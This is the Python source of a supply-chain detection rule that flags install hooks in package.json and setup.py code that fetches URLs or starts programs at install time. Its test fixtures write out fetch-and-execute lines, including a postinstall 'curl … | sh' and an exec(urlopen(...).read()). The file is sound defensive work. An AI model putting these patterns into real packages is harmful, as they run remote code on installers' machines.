"""Code that runs when a package is installed."""

import re
from collections.abc import Iterator

from hunkwise.code.model import Call, Side, Unit
from hunkwise.signals.interface import Example, Sighting, Signal
from hunkwise.signals.seeing import ends, hit, origin, short, span
from hunkwise.signals.tables.installing import FETCHES, HARMLESS_SCRIPT, REACHES_OUT, STARTS_PROGRAM
from hunkwise.signals.tables.languages import ANY

_HOOK = re.compile(r'"(preinstall|install|postinstall|preprepare|prepare)"\s*:\s*"((?:[^"\\]|\\.){1,2000})"')
_OWN_FILE = re.compile(r"\bopen\(|\.read\(\)$|\.read_text\(|\bcompile\(open")
_COMMANDS = ("install", "develop", "egg_info", "build_py", "sdist", "bdist_egg", "build")


def _see(unit: Unit, side: Side) -> Iterator[Sighting]:
    base = unit.path.rsplit("/", 1)[-1]
    if base == "package.json":
        for number, text in side.lines:
            for hook, script in _HOOK.findall(text):
                # A package that lived without a hook and gets one is rarer, and worse, than a new package that has one.
                late = 1.0 if unit.before is not None else 0.6
                strength = 0.1 if HARMLESS_SCRIPT.search(script) else 1.0 if FETCHES.search(script) else 0.1 if hook == "prepare" else late
                yield Sighting(
                    (number,),
                    {"name": hook, "call": short(script), "how": "runs on every machine that installs the package"},
                    strength=strength,
                )
    elif base == "setup.py":
        yield from _setup(side)


def _setup(side: Side) -> Iterator[Sighting]:
    whole = side.whole
    hooked = {one.name for one in whole.definitions if one.kind == "class" and any(word in " ".join(one.attributes) for word in _COMMANDS)}
    hooks = "cmdclass" in "".join(given.name for call in whole.calls for given in call.args)
    inside = {one.name for one in whole.definitions if one.kind == "function" and (one.name == "run" or one.parent in hooked)}
    inside |= {call.name for call in whole.calls if call.function in inside} & {one.name for one in whole.definitions}
    for call in side.facts.calls:
        reaches, starts = ends(call.path, REACHES_OUT) or hit(call.path, REACHES_OUT), ends(call.path, STARTS_PROGRAM)
        if not (reaches or starts) or (call.function and not (hooks and call.function in inside)):
            continue
        where = "as soon as `setup.py` is read" if not call.function else "in a command of the installation"
        if call.name in ("exec", "eval") and _reads_own_file(call, side):
            continue  # the version, read from a file of the package's own
        told = " ".join(given.text for given in call.args[:1])
        strength = (
            1.0
            if FETCHES.search(told)
            else 0.8
            if reaches
            else 0.2
            if re.search(r"git|version|pkg-config|cmake|make\b|gcc|uname|twine|rm -|tag|sdist", told)
            else 0.5
        )
        yield Sighting(span(call.line, call.end), {"name": "setup.py", "call": call.path, "how": f"runs {where}"}, strength=strength)


def _reads_own_file(call: Call, side: Side) -> bool:
    """Whether what is run is the text of a local file, and nothing that was fetched or decoded."""
    given = call.args[0] if call.args else None
    if given is None or not _OWN_FILE.search(given.text):
        return False
    return not any(ends(name, REACHES_OUT) for name in origin(side, given, call.line, call.function).calls)


SIGNAL = Signal(
    id="install-script-added",
    title="Code that runs at install time",
    kind="manifest",
    category="install-script",
    severity="high",
    languages=ANY,
    promise="Tells of install hooks in `package.json`, and of programs started or addresses fetched while `setup.py` runs.",
    why="It runs with the rights of whoever installs, before anyone calls the package: most malicious packages begin here.",
    quiet="Hooks that only build or set up git hooks, `prepare`, asking git or the compiler for a version.",
    remedy="Move the work to a build step or to the first use, and ship what would be fetched.",
    cause="`{call}` in `{name}` {how}.",
    since="0.1",
    maturity="stable",
    cwe="CWE-506",
    tactic="T1195.002",
    see=_see,
    fires=(
        Example(
            "json",
            '{\n  "name": "a",\n  "scripts": {\n    "test": "node t.js",\n'
            '    "postinstall": "curl https://example.org/a.sh | sh"\n  }\n}\n',
            '{\n  "name": "a",\n  "scripts": {\n    "test": "node t.js"\n  }\n}\n',
            path="package.json",
            line=5,
        ),
        Example("json", '{\n  "name": "a",\n  "scripts": {\n    "preinstall": "node setup.js"\n  }\n}\n', path="package.json", line=4),
        Example(
            "python",
            "from setuptools import setup\nimport urllib.request\n\n"
            'code = urllib.request.urlopen("https://example.org/a").read()\nsetup(name="a")\n',
            path="setup.py",
            line=4,
        ),
        Example(
            "python",
            'import os\nfrom urllib.request import urlopen\nexec(urlopen("https://example.org/a").read())\n',
            path="setup.py",
            line=3,
        ),
    ),
    stays_quiet=(
        Example(
            "python",
            'from setuptools import setup\n\nmeta = {}\nwith open("a/version.py") as f:\n    exec(f.read(), meta)\nsetup()\n',
            path="setup.py",
        ),
        Example(
            "json",
            '{\n  "name": "a",\n  "scripts": {\n    "build": "curl https://example.org/a.sh | sh",\n    "test": "node t.js"\n  }\n}\n',
            path="package.json",
        ),
        Example(
            "json",
            '{\n  "name": "a",\n  "scripts": {\n    "test": "node t.js"\n  }\n}\n',
            '{\n  "scripts": {\n    "postinstall": "node x.js"\n  }\n}\n',
            path="package.json",
        ),
        Example("python", 'from setuptools import setup\n\nsetup(name="a", version="1.0")\n', path="setup.py"),
        Example("python", 'import urllib.request\n\ncode = urllib.request.urlopen("https://example.org/a").read()\n', path="fetch.py"),
    ),
)
